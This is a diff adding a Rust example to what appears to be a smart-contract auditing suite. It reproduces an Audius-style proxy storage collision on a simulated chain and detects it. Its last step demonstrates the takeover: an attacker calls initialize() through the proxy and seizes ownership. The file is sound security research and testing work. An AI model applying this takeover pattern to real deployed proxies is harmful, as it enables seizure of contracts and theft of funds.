@@ -1,0 +1,103 @@
+//! Upgrade audit: the Audius-style incident investigation (paper
+//! Listing 2 / §2.3), driven through the public API the way an auditor
+//! would use it.
+//!
+//! A protocol runs an upgradeable proxy whose slot 0 holds the admin
+//! address while the logic contract's `initialized`/`initializing`
+//! booleans occupy the same slot. The audit recovers the proxy's upgrade
+//! timeline, detects the storage collision, validates the exploit, and
+//! demonstrates the takeover.
+//!
+//! Run with: `cargo run -p proxion-suite --example upgrade_audit`
+
+use proxion_chain::Chain;
+use proxion_core::{LogicResolver, ProxyDetector, StorageCollisionDetector};
+use proxion_primitives::{selector, Address, U256};
+use proxion_solc::{compile, templates};
+
+fn main() {
+    let mut chain = Chain::new();
+    let deployer = chain.new_funded_account();
+
+    // Protocol history: v1 logic, later upgraded to the vulnerable v2.
+    let (proxy_spec, vulnerable_logic_spec) = templates::audius_pair();
+    let v1 = chain
+        .install_new(
+            deployer,
+            compile(&templates::simple_logic("GovernanceV1"))
+                .unwrap()
+                .runtime,
+        )
+        .unwrap();
+    let v2 = chain
+        .install_new(deployer, compile(&vulnerable_logic_spec).unwrap().runtime)
+        .unwrap();
+    let proxy = chain
+        .install_new(deployer, compile(&proxy_spec).unwrap().runtime)
+        .unwrap();
+
+    // Admin whose address happens to have a zero low byte — the fatal
+    // alignment from the real incident.
+    let mut admin_bytes = [0u8; 20];
+    admin_bytes[5] = 0x9c;
+    let admin = Address::from(admin_bytes);
+    chain.set_storage(proxy, U256::ZERO, U256::from(admin));
+    chain.set_storage(proxy, U256::ONE, U256::from(v1));
+    for _ in 0..40 {
+        chain.set_storage(deployer, U256::MAX, U256::ONE);
+    }
+    chain.set_storage(proxy, U256::ONE, U256::from(v2)); // the upgrade
+
+    // ---- the audit ----
+    println!("== step 1: identify the proxy ==");
+    let check = ProxyDetector::new().check(&chain, proxy);
+    let slot = match check.impl_source() {
+        Some(proxion_core::ImplSource::StorageSlot(slot)) => slot,
+        other => panic!("expected a slot-based proxy, got {other:?}"),
+    };
+    println!("{proxy}: proxy, implementation slot {slot:#x}");
+
+    println!("\n== step 2: recover the upgrade timeline (Algorithm 1) ==");
+    let history = LogicResolver::new().resolve(&chain, proxy, slot);
+    for event in &history.events {
+        let tag = if event.new_logic == v2 {
+            "  <- vulnerable version"
+        } else {
+            ""
+        };
+        println!(
+            "block {:>5}: implementation = {}{tag}",
+            event.block, event.new_logic
+        );
+    }
+    println!(
+        "({} upgrade(s), {} archive API calls)",
+        history.upgrade_count(),
+        history.api_calls
+    );
+
+    println!("\n== step 3: storage collision check on the live pair ==");
+    let logic = check.logic().expect("logic installed");
+    let report = StorageCollisionDetector::new().check_pair(&chain, proxy, logic);
+    for collision in &report.collisions {
+        println!("  {collision}");
+    }
+    assert!(
+        report.has_exploitable(),
+        "the Audius collision must be flagged"
+    );
+
+    println!("\n== step 4: demonstrate the takeover the collision allows ==");
+    let attacker = chain.new_funded_account();
+    let init = selector("initialize()").to_vec();
+    let r1 = chain.transact(attacker, proxy, init.clone(), U256::ZERO);
+    println!(
+        "attacker calls initialize() through the proxy: success = {}",
+        r1.is_success()
+    );
+    let owner_now = chain.transact(attacker, proxy, selector("owner()").to_vec(), U256::ZERO);
+    let stored_owner = Address::from_word(U256::from_be_slice(&owner_now.output));
+    println!("logic-level owner is now: {stored_owner}");
+    assert_eq!(stored_owner, attacker, "attacker must own the contract");
+    println!("\nverdict: exploitable storage collision confirmed — owner seized.");
+}
